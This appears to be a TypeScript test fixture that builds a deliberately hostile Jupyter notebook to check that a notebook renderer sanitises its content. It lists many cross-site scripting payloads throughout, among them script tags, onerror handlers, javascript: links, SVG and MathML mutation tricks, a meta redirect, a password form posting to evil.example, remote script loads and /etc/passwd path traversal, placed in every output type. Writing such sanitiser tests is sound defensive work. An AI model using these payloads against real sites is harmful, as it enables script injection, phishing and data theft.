import type { Cell, Notebook } from "../../../lib/notebook/nbformat.ts";
import type { MimeBundle } from "../../../lib/notebook/output.ts";

/** What would run, load or take over a page, if it were let through. */
export const ATTACKS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="https://evil.example/pixel.png" alt="tracked">`,
  `<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PjE8L3NjcmlwdD48L3N2Zz4=">`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="  java\nscript:alert(1)">click</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">click</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example"></object><embed src="https://evil.example">`,
  `<style>body{display:none}</style><p style="position:fixed;inset:0">over</p>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name="password"><button>go</button></form>`,
  `<svg><script>alert(1)</script><a href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>`,
  `<svg><style>@import url(https://evil.example)</style><use href="https://evil.example#x"/></svg>`,
  `<svg><image href="https://evil.example/pixel.png"/><rect fill="url(https://evil.example#x)"/></svg>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<div id="site-tools" class="skip" data-live="five-bars" data-exercise="x" data-assets="https://evil.example">x</div>`,
  `</article></main><script>alert(1)</script>`,
  `<p title='"><script>alert(1)</script>'>quote</p>`,
  `\ue0000\ue001`,
];

/** The same in Markdown, mathematics and code. */
export const MARKDOWN: readonly string[] = [
  ...ATTACKS,
  "[click](javascript:alert(1)) ![x](https://evil.example/a.png) ![y](javascript:alert(1))",
  "[click](<java&#x0A;script:alert(1)>) <javascript:alert(1)> [d](data:text/html;base64,PHN2Zz4=)",
  "[up](../../../etc/passwd) [file](file:///etc/passwd) [p](//evil.example)",
  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/a.png}$",
  '$\\class{skip" onclick="alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\text{<img src=x onerror=alert(1)>}$',
  "$\\htmlData{live=x}{y}$ $\\unicode{x}$ $\\def\\a{\\a\\a}\\a$",
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)> Title "onmouseover="alert(1)\n\n**C1.1** **<b>C1.1</b>**',
  "| a | b |\n| :-: | --: |\n| <img src=x onerror=alert(1)> | `</td><script>alert(1)</script>` |",
];

function output(data: MimeBundle): NonNullable<Cell["outputs"]>[number] {
  return { output_type: "display_data", data, metadata: {} };
}

function code(source: string, outputs: Cell["outputs"] = []): Cell {
  return { cell_type: "code", source, metadata: {}, execution_count: null, outputs };
}

const NAME = `"><img src=x onerror=alert(1)>`;

/** Outputs of every kind that carry an attack. */
function outputsWith(attack: string): NonNullable<Cell["outputs"]> {
  return [
    output({ "text/html": attack }),
    output({
      "text/html":
        `<div data-live="${NAME}" data-props="${attack}"><figure>${attack}<figcaption>${attack}</figcaption></figure></div>`,
    }),
    output({
      "image/svg+xml":
        `<svg width="10" height="10" xmlns="http://www.w3.org/2000/svg">${attack}</svg>`,
    }),
    output({
      "image/svg+xml": attack,
      "text/html": `<figure><figcaption>${attack}</figcaption></figure>`,
      "text/plain": attack,
    }),
    output({ "image/png": `"><script>alert(1)</script>` }),
    output({ "text/markdown": attack }),
    output({ "text/latex": `$${attack}$` }),
    output({ "text/plain": `✓ C1.1 ${attack}\n  ${attack}` }),
    output({ "text/plain": attack }),
    output({ "application/json": { [attack]: attack } }),
    output({ "text/javascript": attack, "application/javascript": attack }),
    { output_type: "stream", name: NAME, text: attack },
    { output_type: "error", ename: attack, evalue: attack, traceback: [attack] },
  ];
}

/** A notebook whose every part attacks the page. */
export function hostileNotebook(): Notebook {
  const cells: Cell[] = [
    ...MARKDOWN.map((source): Cell => ({ cell_type: "markdown", source, metadata: {} })),
    ...ATTACKS.map((attack) => code(attack, outputsWith(attack))),
    code(`const a = todo(); // ${NAME}\nawait check("E1.1", a);`, [
      { output_type: "stream", name: "stdout", text: `Hint: ${ATTACKS[0]}${NAME}` },
    ]),
    { cell_type: "raw", source: ATTACKS[0]!, metadata: { format: "text/html" } },
  ];
  return {
    cells,
    metadata: { language_info: { name: NAME }, title: NAME },
    nbformat: 4,
    nbformat_minor: 4,
  };
}
